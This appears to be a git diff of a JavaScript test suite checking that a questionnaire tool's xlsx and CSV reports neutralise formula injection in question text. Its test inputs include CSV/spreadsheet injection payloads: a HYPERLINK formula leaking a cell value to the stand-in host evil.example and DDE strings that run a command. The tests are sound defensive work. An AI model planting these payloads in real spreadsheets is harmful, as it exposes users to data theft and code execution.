@@ -7,7 +7,7 @@ import { readWorkbook } from '../../src/workbook/read-workbook.js';
 import { kotae } from '../helpers.js';
 import { put, questionnaireXlsx, QUESTIONS } from './helpers.js';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
 
 describe('formula injection through question text', () => {
   it('the xlsx report holds strings, no formulas', () => {
@@ -33,7 +33,10 @@ describe('formula injection through question text', () => {
     const r = kotae(['answer', input, '--report', csvPath]);
     expect(r.code, r.stderr).toBe(0);
     const csv = readFileSync(csvPath, 'utf8');
-    const fields = csv.split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((f) => f.replace(/^"|"$/g, '').replace(/""/g, '"'));
+    const fields = csv
+      .split(/\r\n/)
+      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
+      .map((f) => f.replace(/^"|"$/g, '').replace(/""/g, '"'));
     for (const f of fields) expect(f, f).not.toMatch(/^[=+\-@]/);
     expect(csv).toContain("'=HYPERLINK(");
     expect(csv).toContain("'+cmd|");
